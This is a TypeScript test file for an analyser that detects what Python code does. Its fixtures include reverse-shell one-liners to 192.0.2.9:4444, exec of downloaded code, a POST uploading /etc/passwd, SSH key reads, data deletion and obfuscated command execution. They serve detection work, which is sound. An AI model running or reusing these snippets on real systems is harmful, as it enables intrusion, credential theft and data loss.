import { deflateSync, gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import {
  base64,
  codes,
  commands,
  fileOf,
  files,
  hexadecimal,
  networkOf,
  networks,
  processOf,
  python,
} from './support.ts';

describe('processes', () => {
  it.each([
    ['import os\nos.system("nmap x")'],
    ['import os as o\no.system("nmap x")'],
    ['from os import system\nsystem("nmap x")'],
    ['from os import system as s\ns("nmap x")'],
    ['import os\nrun = os.system\nrun("nmap x")'],
    ['import os\nos.popen("nmap x").read()'],
    ['import os\nos.execvp("nmap", ["nmap", "x"])'],
    ['import os\nos.execlp("nmap", "nmap", "x")'],
    ['import os\nos.spawnlp(os.P_WAIT, "nmap", "nmap", "x")'],
    ['import os\nos.posix_spawnp("nmap", ["nmap", "x"], {})'],
    ['import subprocess\nsubprocess.run(["nmap", "x"])'],
    ['import subprocess as sp\nsp.check_output("nmap x", shell=True)'],
    ['from subprocess import Popen, PIPE\nPopen("nmap x".split(), stdout=PIPE)'],
    ['import subprocess\nsubprocess.call(args=["nmap", "x"])'],
    ['import subprocess\nsubprocess.getoutput("nmap x")'],
    ['import subprocess, shlex\nsubprocess.run(shlex.split("nmap x"))'],
    ['import pty\npty.spawn(["nmap", "x"])'],
    ['import pexpect\npexpect.spawn("nmap x")'],
    ['import asyncio\nasync def f():\n    await asyncio.create_subprocess_shell("nmap x")\nasyncio.run(f())'],
    [
      'import asyncio\nasync def f():\n    await asyncio.create_subprocess_exec("nmap", "x")\nasyncio.run(f())',
    ],
    ['from sh import nmap\nnmap("x")'],
    ['import sh\nsh.nmap("x")'],
    ['from plumbum import local\nlocal["nmap"]("x")'],
    ['__import__("os").system("nmap x")'],
    ['import importlib\nimportlib.import_module("os").system("nmap x")'],
    ['import os\ngetattr(os, "sys" + "tem")("nmap x")'],
    ['import os\ncmd = "nmap"\nos.system(cmd + " x")'],
    ['import os\nhost = "x"\nos.system(f"nmap {host}")'],
    ['import os\nos.system("nmap %s" % "x")'],
    ['import os\nos.system("nmap {}".format("x"))'],
    ['import os\nos.system(" ".join(["nmap", "x"]))'],
    ['from subprocess import *\nrun("nmap x", shell=True)'],
    ['from os import *\nsystem("nmap x")'],
    ['import os, threading\nthreading.Thread(target=os.system, args=("nmap x",)).start()'],
    ['import os\nfrom concurrent.futures import ThreadPoolExecutor as E\nE().submit(os.system, "nmap x")'],
    ['import os\nlist(map(os.system, ["nmap x"]))'],
    [
      'import asyncio, os\nasync def f():\n    await asyncio.to_thread(os.system, "nmap x")\nasyncio.run(f())',
    ],
    ['import trio\ntrio.run(trio.run_process, ["nmap", "x"])'],
    ['import sys\nsys.modules["os"].system("nmap x")'],
    ['import os\nos.environ["A"] = "nmap x"\nos.system(os.environ["A"])'],
    ['import os, json\nos.system(json.loads(\'{"c": ["nmap x"]}\')["c"][0])'],
    ["import timeit\ntimeit.timeit(\"__import__('os').system('nmap x')\")"],
    ['import os\nos.system("{}{} x".format("nm", "ap"))'],
    ['import runpy\nopen("a.py", "w").write("import os; os.system(\'nmap x\')")\nrunpy.run_path("a.py")'],
    ['import os\nos.system("x pamn"[::-1])'],
    ['import os\nos.system("nm" "ap x")'],
    ['import os\nos.system("".join(chr(c) for c in [110, 109, 97, 112, 32, 120]))'],
    ['import os\nos.system("".join(map(chr, [110, 109, 97, 112, 32, 120])))'],
    ['import os\nos.system(bytes([110, 109, 97, 112, 32, 120]).decode())'],
    ['import os\nos.system("nXmXap x".replace("X", ""))'],
    ['import os\nos.system("\\x6e\\x6d\\x61\\x70 x")'],
    [`import os\nos.system(bytes.fromhex("${hexadecimal('nmap x')}").decode())`],
    [`import os, binascii\nos.system(binascii.unhexlify("${hexadecimal('nmap x')}"))`],
    [`import os, base64\nos.system(base64.b64decode("${base64('nmap x')}").decode())`],
    ['import os, codecs\nos.system(codecs.decode("aznc k", "rot_13"))'],
    ['import os, urllib.parse\nos.system(urllib.parse.unquote("%6e%6d%61%70%20x"))'],
    ['import os\ncommands = {"scan": "nmap x"}\nos.system(commands["scan"])'],
    ['import os\nfor c in ["ls", "nmap x"]:\n    os.system(c)'],
    ['import os\nclass A:\n    def go(self):\n        os.system("nmap x")\nA().go()'],
    ['import os\ndef go(what):\n    os.system(what)\ngo("nmap x")'],
    ['import os\ndef go(what="nmap x"):\n    os.system(what)\ngo()'],
    ['import os, threading\nthreading.Thread(target=lambda: os.system("nmap x")).start()'],
    ['import os\nif __name__ == "__main__":\n    os.system("nmap x")'],
    ['import os\ntry:\n    pass\nfinally:\n    os.system("nmap x")'],
    ['import os\nwith os.popen("nmap x") as p:\n    pass'],
    ['import os\n[os.system(c) for c in ("nmap x",)]'],
    ['exec("import os; os.system(\'nmap x\')")'],
    ["eval(\"__import__('os').system('nmap x')\")"],
    ['exec(compile("import os\\nos.system(\'nmap x\')", "a", "exec"))'],
    [`import base64\nexec(base64.b64decode("${base64('import os\nos.system("nmap x")')}"))`],
    [
      `import zlib, base64\nexec(zlib.decompress(base64.b64decode("${deflateSync('import os;os.system("nmap x")').toString('base64')}")))`,
    ],
    [
      `import gzip, base64\nexec(gzip.decompress(base64.b64decode("${gzipSync('import os;os.system("nmap x")').toString('base64')}")))`,
    ],
    ['import ctypes\nctypes.CDLL("libc.so.6").system(b"nmap x")'],
    ['get_ipython().system("nmap x")'],
    ['get_ipython().run_cell_magic("bash", "", "nmap x")'],
    ['!nmap x'],
    ['out = !nmap x'],
    ['%%bash\nnmap x'],
    ['%sx nmap x'],
    ['import os\n!nmap x\nprint(1)'],
    ['print "old"\nimport os\nos.system("nmap x")'],
    ['this is not python (\nimport os\nos.system("nmap x")'],
  ])('%s', (code) => expect(commands(python(code))).toContain('nmap x'));

  it.each([
    ['print("nmap x")'],
    ['# os.system("nmap x")'],
    ['"""\nimport os\nos.system("nmap x")\n"""'],
    ['s = "os.system(\'nmap x\')"'],
    ['import os\nos.path.join("nmap", "x")'],
    ['import logging\nlogging.info("nmap x")'],
    ['def system(x): pass\nsystem("nmap x")'],
    ['assert "nmap x" in out'],
    ['import re\nre.search("nmap x", t)'],
    ['import nmap\nnmap.PortScanner()'],
    ['import subprocess\nsubprocess.run'],
  ])('%s runs nothing', (code) => expect(commands(python(code))).toEqual([]));

  it('tells how a text for a shell differs from words for a program', () => {
    expect(commands(python('import os\nos.system("id; nmap $X")'))).toEqual(['id', 'nmap $X']);
    expect(commands(python('import subprocess\nsubprocess.run(["echo", "a; nmap x"])'))).toEqual([
      'echo "a; nmap x"',
    ]);
  });

  it('keeps what is not known as it is written', () => {
    expect(commands(python('import os\nos.system(f"nmap {target} -p {ports[0]}")'))).toEqual([
      'nmap {target} -p {ports[0]}',
    ]);
    expect(commands(python('import subprocess\nsubprocess.run(["nmap", target])'))).toEqual([
      'nmap {target}',
    ]);
  });

  it('says what code of a function does that nothing calls', () => {
    const nmap = processOf(python('import os\ndef scan():\n    os.system("nmap x")'), 'nmap');
    expect(nmap.origin.via).toContain('uncalled scan');
  });

  it('tells loops', () => {
    const loops = (code: string) => processOf(python(`import os\n${code}`), 'nmap').loop;
    expect(loops('while True:\n    os.system("nmap x")')).toBe('endless');
    expect(loops('for i in range(9):\n    os.system("nmap x")')).toBe('counted');
    expect(loops('os.system("nmap x")')).toBeUndefined();
  });

  it('has the place of the call for a span', () => {
    const code = 'import os\n\nos.system("nmap x")\n';
    const { span, argument } = processOf(python(code), 'nmap').origin;
    expect(argument).toBe('code');
    expect(code.slice(...span)).toContain('os.system("nmap x")');
  });
});

describe('connections', () => {
  it.each([
    ['import socket\ns = socket.socket()\ns.connect(("192.0.2.9", 4444))', ['192.0.2.9:4444']],
    ['import socket\nsocket.create_connection(("evil.example", 80))', ['evil.example:80']],
    ['import socket\ns = socket.socket()\ns.bind(("", 8080))\ns.listen()', ['on 0.0.0.0:8080']],
    [
      'HOST, PORT = "192.0.2.9", 4444\nimport socket\nsocket.socket().connect((HOST, PORT))',
      ['192.0.2.9:4444'],
    ],
    ['import requests\nrequests.get("https://evil.example/a")', ['evil.example:443']],
    [
      'import requests\ns = requests.Session()\ns.post("https://evil.example/a", data="x")',
      ['evil.example:443'],
    ],
    ['from urllib.request import urlopen\nurlopen("http://evil.example/a")', ['evil.example:80']],
    ['import urllib.request as u\nu.urlretrieve("http://evil.example/a", "a")', ['evil.example:80']],
    ['import httpx\nhttpx.get("http://evil.example")', ['evil.example:80']],
    [
      'import aiohttp\nasync def f():\n  async with aiohttp.ClientSession() as s:\n    await s.get("http://evil.example")\n',
      ['evil.example:80'],
    ],
    [
      'import http.client\nhttp.client.HTTPSConnection("evil.example").request("GET", "/")',
      ['evil.example:443'],
    ],
    ['import ftplib\nftplib.FTP("evil.example")', ['evil.example:21']],
    ['import smtplib\nsmtplib.SMTP("evil.example", 587)', ['evil.example:587']],
    [
      'import paramiko\nc = paramiko.SSHClient()\nc.connect("evil.example", port=2222)',
      ['evil.example:2222'],
    ],
    ['import websocket\nwebsocket.create_connection("ws://evil.example/")', ['evil.example:80']],
    ['base = "https://evil.example"\nimport requests\nrequests.get(base + "/a")', ['evil.example:443']],
    ['url = "https://evil.example"', []],
    ['import requests\nprint("http://evil.example")', []],
  ])('%s', (code, expected) => expect(networks(python(code))).toEqual(expected));

  it('tells what is sent', () => {
    const found = networkOf(
      python('import requests\nrequests.post("http://a.example", files={"f": open("/etc/passwd")})'),
    );
    expect(found.method).toBe('POST');
    expect(found.payload).toContain('@/etc/passwd');
    expect(networkOf(python('import requests\nrequests.put("http://a.example", data="hello")')).payload).toBe(
      'hello',
    );
  });

  it('runs elsewhere what a client is told to run', () => {
    const code = 'import paramiko\nc = paramiko.SSHClient()\nc.connect("h")\nc.exec_command("nmap x")';
    expect(processOf(python(code), 'nmap').remote).toBe('h');
  });

  it.each([['t.request_port_forward("", 8080)'], ['c.get_transport().request_port_forward("", 8080)']])(
    '%s forwards',
    (line) => {
      const code = `import paramiko\nc = paramiko.SSHClient()\nc.connect("h")\nt = c.get_transport()\n${line}`;
      expect(python(code).some((action) => action.kind === 'network' && action.forward === 'remote')).toBe(
        true,
      );
    },
  );

  it.each([
    [
      'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.9",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")',
    ],
    [
      'import socket, subprocess\ns = socket.socket()\ns.connect(("192.0.2.9", 4444))\nsubprocess.Popen(["/bin/sh", "-i"], stdin=s, stdout=s)',
    ],
  ])('%s is a shell behind a socket', (code) =>
    expect(processOf(python(code), '/bin/sh').connected).toBe('192.0.2.9:4444'),
  );

  it('knows code that was downloaded', () => {
    const downloaded = (code: string) =>
      python(code).flatMap((action) =>
        action.kind === 'code' || action.kind === 'process' ? [action.downloaded] : [],
      );
    expect(downloaded('import requests\nexec(requests.get("http://a.example/x").text)')).toContain(
      'http://a.example/x',
    );
    expect(
      downloaded(
        'from urllib.request import urlopen\nimport os\nos.system(urlopen("http://a.example/x").read())',
      ),
    ).toContain('http://a.example/x');
  });
});

describe('files', () => {
  it.each([
    ['open("/etc/passwd").read()', ['read /etc/passwd']],
    ['with open("a", "w") as f:\n    f.write("x")', ['create a']],
    ['open("a", mode="ab").write(b"x")', ['append a']],
    ['from pathlib import Path\nPath("a").read_text()', ['read a']],
    ['from pathlib import Path\n(Path("/etc") / "passwd").read_text()', ['read /etc/passwd']],
    ['from pathlib import Path\nPath("a").write_text("x")', ['create a']],
    ['from pathlib import Path\nPath("a").unlink()', ['delete a']],
    ['import pathlib\npathlib.Path.home().joinpath(".ssh", "id_rsa").read_bytes()', ['read ~/.ssh/id_rsa']],
    ['import os\nos.remove("a")', ['delete a']],
    ['import os\nos.rmdir("a")', ['delete a']],
    ['import shutil\nshutil.rmtree("/data")', ['delete /data']],
    ['import shutil\nshutil.copy("a", "b")', ['read a', 'create b']],
    ['import os\nos.rename("a", "b")', ['rename a -> b']],
    ['import os\nos.chmod("a", 0o777)', ['permission a']],
    ['import os\nos.symlink("/etc/passwd", "a")', ['create a -> /etc/passwd']],
    ['import os\nos.chdir("/srv")\nopen("a")', ['read /srv/a']],
    ['import os\nopen(os.path.expanduser("~/.ssh/id_rsa"))', ['read ~/.ssh/id_rsa']],
    ['import os\nopen(os.path.join("/etc", "passwd"))', ['read /etc/passwd']],
    ['print("open(\'/etc/passwd\')")', []],
  ])('%s', (code, expected) => expect(files(python(code))).toEqual(expected));

  it('keeps what is written', () => {
    expect(
      fileOf(python('with open("a", "w") as f:\n    f.write("x\\n")\n    f.write("y\\n")'), 'a').content,
    ).toBe('x\ny\n');
    expect(fileOf(python('from pathlib import Path\nPath("a").write_text("x")'), 'a').content).toBe('x');
    expect(fileOf(python('import os\nos.chmod("a", 0o4755)'), 'a').mode).toBe('0o4755');
  });

  it('knows the editor functions of agents', () => {
    const actions = python(
      'create_file("a.py")\nappend_file("a.py", "x = 1")\nedit_file_by_replace("a.py", to_replace="1", new_content="2")',
    );
    expect(files(actions)).toEqual(['create a.py', 'append a.py', 'append a.py']);
  });
});

describe('code', () => {
  it.each([
    ['import time\ntime.time = lambda: 0', ['assign time.time = lambda: 0']],
    ['import time as t\nt.sleep = print', ['assign time.sleep = print']],
    ['from torch import cuda\ncuda.synchronize = None', ['assign torch.cuda.synchronize = None']],
    ['import sys\nsys.exit(0)', ['call sys.exit(0)']],
    ['import os\nos._exit(0)', ['call os._exit(0)']],
    ['from os import _exit as e\ne(0)', ['call os._exit(0)']],
    ['import gc\ngc.get_objects()', ['call gc.get_objects()']],
    ['import sys\nsys._getframe(1)', ['call sys._getframe(1)']],
    ['import os\nos.setuid(0)', ['call os.setuid(0)']],
    ['import sys\nsys.modules["x"] = None', ['assign sys.modules = None']],
  ])('%s', (code, expected) => expect(codes(python(code))).toEqual(expected));

  it('tells definitions with their bodies', () => {
    expect(codes(python('def f(a):\n    return a'))).toContain('define f: return a');
    expect(codes(python('class A:\n    def __eq__(self, other):\n        return True'))).toContain(
      'define __eq__: return True',
    );
    expect(codes(python('def pytest_runtest_makereport(item, call):\n    pass')).join()).toContain(
      'define pytest_runtest_makereport',
    );
  });

  it('tells a raise of what is called', () => {
    expect(codes(python('from unittest import SkipTest\nraise SkipTest("no")')).join()).toContain(
      'unittest.SkipTest("no")',
    );
    expect(codes(python('import pytest\npytest.skip("no", allow_module_level=True)')).join()).toContain(
      'call pytest.skip("no", allow_module_level=True)',
    );
  });

  it('tells statements given to a database', () => {
    expect(codes(python('cursor.execute("DROP TABLE users")')).join()).toContain('DROP TABLE');
  });

  it('keeps values whole', () => {
    const long = 'x'.repeat(5_000);
    expect(codes(python(`import a\na.b("${long}")`))).toEqual([`call a.b("${long}")`]);
  });

  it('goes through functions that call one another, and a recursion that branches, to their end', () => {
    const chain = Array.from({ length: 20 }, (_, at) => `def f${at}(x): f${at + 1}(x)\n`).join('');
    const code = `import os\n${chain}def f20(x): os.system(x)\nf0("nmap x")`;
    expect(commands(python(code))).toContain('nmap x');
    const walk = `def walk(x):\n${'    walk(x)\n'.repeat(8)}walk(1)\nimport os\nos.system("nmap x")`;
    expect(commands(python(walk))).toContain('nmap x');
  });
});
